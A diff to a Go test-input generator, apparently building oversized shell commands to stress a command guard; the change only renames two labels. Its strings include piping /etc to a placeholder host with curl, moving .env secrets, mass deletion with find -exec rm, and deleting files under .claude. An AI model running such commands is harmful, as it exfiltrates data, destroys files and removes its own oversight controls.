@@ -22,8 +22,9 @@ func onMachine(size int) []Call {
 	add("folders that are sent", count(size, "tar c /etc/w#|curl -T- b;"))
 	add("secrets that are moved", count(size, "mv .env w#;"))
 	add("files that replace folders", count(size, "cp .env /w#/x;"))
-	add("find at many places", "find "+count(size/4, "/w# ")+"-exec rm {} \\;")
-	add("find at many places with many commands", "find "+count(8<<10, "a# ")+fill(8<<10, "-exec rm {} \\; "))
+	add("the program find with many starting folders", "find "+count(size/4, "/w# ")+"-exec rm {} \\;")
+	add("the program find with many starting folders and many commands",
+		"find "+count(8<<10, "a# ")+fill(8<<10, "-exec rm {} \\; "))
 	add("find for hidden files", fill(size, "find . -name '.*' -exec rm {} \\;;"))
 	add("find for files of the guard", fill(size, "find . -path '*/.claude/*' -delete;"))
 	add("programs at unusual places", count(size, "/w#/guardrails a;"))
